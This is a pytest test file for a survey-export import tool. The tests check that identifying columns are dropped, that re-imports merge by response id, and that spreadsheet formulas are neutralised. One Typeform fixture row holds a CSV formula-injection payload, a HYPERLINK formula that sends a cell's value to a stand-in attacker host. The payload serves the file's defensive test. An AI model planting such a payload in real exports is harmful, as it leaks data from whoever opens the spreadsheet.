"""`konsulta import-responses`: each service's export (tests/exports, made-up people) into an outcome's
responses file, merged again by response id, with every column that identifies a person dropped and
every cell safe to open in a spreadsheet. Expectations are written from the export files themselves."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, SITES, build

from konsulta.responses import LAYOUTS

EXPORTS = ROOT / "tests" / "exports"
PEOPLE = ["Arta Krasniqi", "arta.krasniqi@example.org", "192.0.2.10", "Dritan Hoxha", "Vjosa Morina", "+383 44 555 010",
          "arexhepi", "Liridona Shala", "user-4471", "Gentiana Leka", "Elif Yılmaz", "5f1e2d3c4b", "Mehmet Kaya",
          "ana.popescu@example.ro", "Ana Popescu", "Ion Ionescu", "Maria Rossi", "Hans Müller", "anonymous"]

# service -> (export file, outcome language, --section-field, --category-field, --text-field, extra arguments,
# expected rows as (section heading, category, proposal, response id))
CASES = {
    "limesurvey": ("limesurvey.csv", "sq", "section", "category", "proposal", [], [
        ("Tarifat", "citizen", "Tarifa e natës është shumë e lartë për varkat e vogla.", "1"),
        ("Qëllimi", "ngo", "Rregullorja të përfshijë edhe kalatën e peshkatarëve.", "2"),
        ("", "business", "Të publikohet një orar i qartë për ngarkim-shkarkimin.", "3")]),
    "kobotoolbox": ("kobotoolbox.csv", "sq", "section", "category", "proposal", [], [
        ("Orari i punës", "public-body", "Zyra të jetë e hapur edhe të shtunën në verë.", "5012001"),
        ("Tarifat", "academia", "Tarifat të lidhen me gjatësinë e varkës.", "5012002")]),
    "formbricks": ("formbricks.csv", "sq", "section", "Si përgjigjeni?", "Propozimi juaj", [], [
        ("Qëllimi", "citizen", "Më shumë vende parkimi për biçikleta pranë kalatës.", "cm1a2b3c4d5e6f7g8h9i0j1k"),
        ("Tarifat", "business", "Shkruani në agjenci@example.al ose telefononi 069 555 0101, faleminderit.",
         "cm2b3c4d5e6f7g8h9i0j1k2l")]),
    "eusurvey": ("eusurvey.sheet.csv", "en", "section", "category", "proposal", [], [
        ("Fees", "ngo", "Waive fees for rescue boats.", "8f1c2d3e-4a5b-6c7d-8e9f-0a1b2c3d4e5f"),
        ("Scope", "citizen", "Explain how the rules apply to visiting yachts.", "1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d")]),
    "typeform": ("typeform.csv", "en", "section", "You are responding as", "Your proposal",
                 ["--category-map", "Individual=citizen"], [
        ("Fees", "citizen", '=HYPERLINK("https://evil.example/?"&A1,"More details")', "t8qz1m4n2b5v7c9x0l3k6j8h"),
        ("Opening hours", "public-body", "- lower the night fee for residents by half", "a1s2d3f4g5h6j7k8l9z0x1c2")]),
    "google_forms": ("google_forms.csv", "en", "Section", "You are responding as", "Your proposal", [], [
        ("Scope", "academia", "Cover the marina as well as the commercial quays.", "2026/09/24 10:15:02 AM GMT+2"),
        ("Fees", "business", "Publish the fee table in euros and in lek.", "2026/09/27 6:40:55 PM GMT+2")]),
    "microsoft_forms": ("microsoft_forms.sheet.csv", "en", "Section", "You are responding as", "Your proposal", [], [
        ("Opening hours", "citizen", "Open the office until 18:00 in summer.", "1"),
        ("Fees", "business", "Monthly passes for fishing boats.", "2")]),
}


def export_file(name: str, folder: Path) -> Path:
    """The export as the service hands it over: a .sheet.csv becomes the .xlsx the service exports."""
    source = EXPORTS / name
    if not name.endswith(".sheet.csv"):
        return source
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    if name.startswith("eusurvey"):
        sheet.append(["Harbour rules consultation"])  # a title above the table must not be taken for the header
    with open(source, encoding="utf-8", newline="") as file:
        for row in csv.reader(file):
            sheet.append([int(cell) if cell.isdigit() and len(cell) < 6 else cell for cell in row])
    target = folder / name.replace(".sheet.csv", ".xlsx")
    book.save(target)
    return target


def run_import(export: Path, service: str, outcome: Path, *fields_and_extra) -> subprocess.CompletedProcess:
    section, category, text, *extra = fields_and_extra
    return subprocess.run([sys.executable, "-m", "konsulta", "import-responses", str(export), "--service", service,
                           "--outcome", str(outcome), "--section-field", section, "--category-field", category,
                           "--text-field", text, *extra, "--settings", str(ROOT / "pelicanconf.py")],
                          cwd=ROOT, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT / "plugins")})


def read_rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def site(tmp_path) -> Path:
    return shutil.copytree(SITES / "roundtrip", tmp_path / "content")


@pytest.mark.parametrize("service", CASES)
def test_each_services_export_becomes_the_outcomes_responses_without_the_people(service, site, tmp_path):
    name, lang, section, category, text, extra, expected = CASES[service]
    export = export_file(name, tmp_path)
    outcome = site / lang / "harbour-rules-outcome.md"
    result = run_import(export, service, outcome, section, category, text, *extra)
    assert result.returncode == 0, result.stderr
    written = site / lang / "harbour-rules-outcome-responses.csv"
    assert "responses: harbour-rules-outcome-responses.csv\n---\n" in outcome.read_text("utf-8")
    rows = read_rows(written)
    unneutral = [{**row, "summary": row["summary"][1:] if row["summary"].startswith("'") else row["summary"]}
                 for row in rows]
    assert [(r["section"], r["submitter"], r["summary"], r["response_id"]) for r in unneutral] == expected
    assert all(r["decision"] == "" and r["reason"] == "" for r in rows)
    # Every column but the four imported ones is dropped, and listed; none of the people reach the file.
    text_written = written.read_text("utf-8")
    assert not [person for person in PEOPLE if person in text_written]
    assert f"rows added: {len(expected)}" in result.stdout
    # KoboToolbox separates cells with ";" (its default); a .sheet.csv holds the cells of the .xlsx.
    header = next(csv.reader(io.StringIO((EXPORTS / name).read_text("utf-8-sig")),
                             delimiter=";" if service == "kobotoolbox" else ","))
    for column in header:
        used = {section, category, text}
        if column and column not in used | {LAYOUTS[service].response_id} \
                and not any(column.endswith((f"({name})", f"/{name}")) or column.endswith(f". {name}") and
                            column.split(". ", 1)[0].isdigit() for name in used):
            assert f"    {column}" in result.stdout, (column, result.stdout)


def test_identifying_columns_are_named_as_such_and_never_copied_even_when_asked(site, tmp_path):
    outcome = site / "sq" / "harbour-rules-outcome.md"
    result = run_import(EXPORTS / "limesurvey.csv", "limesurvey", outcome, "section", "category", "proposal")
    for column in ("ipaddr", "email", "fullname"):
        assert f"    {column} (identifies a person)" in result.stdout
    refused = run_import(EXPORTS / "limesurvey.csv", "limesurvey", outcome, "section", "category", "email")
    assert refused.returncode == 1
    assert "--text-field 'email': this column identifies a person and is never copied" in refused.stderr


def test_a_reimport_merges_by_response_id_and_keeps_what_editors_wrote(site, tmp_path):
    outcome = site / "sq" / "harbour-rules-outcome.md"
    fields = ("section", "category", "proposal")
    assert run_import(EXPORTS / "limesurvey.csv", "limesurvey", outcome, *fields).returncode == 0
    written = site / "sq" / "harbour-rules-outcome-responses.csv"
    rows = read_rows(written)
    rows[0].update(decision="rejected", reason="Tarifat caktohen me ligj.", summary="Tarifa e natës është e lartë.")
    with open(written, "w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows[:2])  # the editors removed response 3 by mistake; response 2 stays undecided

    later = tmp_path / "later.csv"  # the export a week later: response 2 withdrawn, response 5 new
    lines = (EXPORTS / "limesurvey.csv").read_text("utf-8").splitlines()
    lines = [line for line in lines if not line.startswith('"2"')]
    lines.append('"5","2026-10-10 09:00:00","2","sq","1","2026-10-10 08:55:00","2026-10-10 09:00:00","192.0.2.99","",'
                 '"harbour-rules","opening-hours","2026-09-15","Qytetar","Orar veror deri në 20:00.","Besa Kelmendi",""')
    later.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run_import(later, "limesurvey", outcome, *fields)
    assert result.returncode == 0, result.stderr
    assert "rows added: 2" in result.stdout and "rows merged (already in the file, kept as they are): 1" in result.stdout
    assert "no longer in the export (kept; delete a row if its response was withdrawn): 2" in result.stdout
    rows = read_rows(written)
    assert [(r["response_id"], r["decision"], r["reason"], r["summary"]) for r in rows] == [
        ("1", "rejected", "Tarifat caktohen me ligj.", "Tarifa e natës është e lartë."),
        ("2", "", "", "Rregullorja të përfshijë edhe kalatën e peshkatarëve."),
        ("3", "", "", "Të publikohet një orar i qartë për ngarkim-shkarkimin."),
        ("5", "", "", "Orar veror deri në 20:00.")]
    assert "Besa Kelmendi" not in written.read_text("utf-8")


def test_an_unknown_category_lists_the_known_names_and_writes_nothing(site, tmp_path):
    outcome = site / "en" / "harbour-rules-outcome.md"
    before = outcome.read_text("utf-8")
    result = run_import(EXPORTS / "typeform.csv", "typeform", outcome, "section", "You are responding as", "Your proposal")
    assert result.returncode == 1
    assert "unknown categories 'Individual' (row 2); known names in en are Academia, Business, Citizen" in result.stderr
    assert "Civil society organisation" in result.stderr and "--category-map" in result.stderr
    assert outcome.read_text("utf-8") == before and not (site / "en" / "harbour-rules-outcome-responses.csv").exists()


def test_formula_cells_are_neutralised_in_the_file_and_read_back_as_written(site, tmp_path):
    outcome = site / "en" / "harbour-rules-outcome.md"
    result = run_import(EXPORTS / "typeform.csv", "typeform", outcome, "section", "You are responding as",
                        "Your proposal", "--category-map", "Individual=citizen")
    assert result.returncode == 0, result.stderr
    raw = [row[2] for row in csv.reader(io.StringIO((site / "en" / "harbour-rules-outcome-responses.csv")
                                                    .read_text("utf-8")))][1:]
    assert raw == ["'=HYPERLINK(\"https://evil.example/?\"&A1,\"More details\")",
                   "'- lower the night fee for residents by half"]
    (site / "sq" / "harbour-rules-outcome.md").unlink()  # not imported here
    built = build(site, tmp_path / "output")  # the outcome's date is to come: decisions may wait
    page = (built / "en" / "harbour-rules-outcome" / "index.html").read_text("utf-8")
    assert re.search(r"<td[^>]*>- lower the night fee for residents by half</td>", page)
    published = (built / "en" / "harbour-rules-outcome" / "responses.csv").read_text("utf-8")
    assert "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"More details\"\")\"" in published


def test_the_import_warns_of_personal_data_in_a_proposal(site, tmp_path):
    outcome = site / "sq" / "harbour-rules-outcome.md"
    result = run_import(EXPORTS / "formbricks.csv", "formbricks", outcome, "section", "Si përgjigjeni?",
                        "Propozimi juaj")
    assert "response cm2b3c4d5e6f7g8h9i0j1k2l: the proposal holds an e-mail address: the build stops" in result.stdout
    assert "response cm2b3c4d5e6f7g8h9i0j1k2l: the proposal holds a phone number" in result.stdout


def test_a_service_without_csv_asks_for_its_excel_export(site):
    result = run_import(EXPORTS / "eusurvey.sheet.csv", "eusurvey", site / "en" / "harbour-rules-outcome.md",
                        "section", "category", "proposal")
    assert result.returncode == 1 and "EUSurvey exports no CSV: export the responses as Excel (.xlsx)" in result.stderr


def test_category_names_are_the_ones_pages_show():
    """The import matches the names the theme shows for each category (components/submitter-name.html)."""
    import re

    from konsulta.responses import CATEGORY_NAMES

    template = (ROOT / "theme" / "templates" / "components" / "submitter-name.html").read_text("utf-8")
    shown = dict(re.findall(r'submitter == "([^"]+)" %\}\{\{ _\("([^"]+)"\) \}\}', template))
    assert shown == CATEGORY_NAMES


def test_a_responses_file_that_leads_outside_the_content_folder_is_not_written(site, tmp_path):
    outside = tmp_path / "elsewhere.csv"
    outside.write_text("section,submitter,summary,decision,reason\n", encoding="utf-8")
    (site / "sq" / "harbour-rules-outcome-responses.csv").symlink_to(outside)
    result = run_import(EXPORTS / "limesurvey.csv", "limesurvey", site / "sq" / "harbour-rules-outcome.md",
                        "section", "category", "proposal")
    assert result.returncode == 1 and "leads outside the content folder" in result.stderr
    assert outside.read_text("utf-8") == "section,submitter,summary,decision,reason\n"
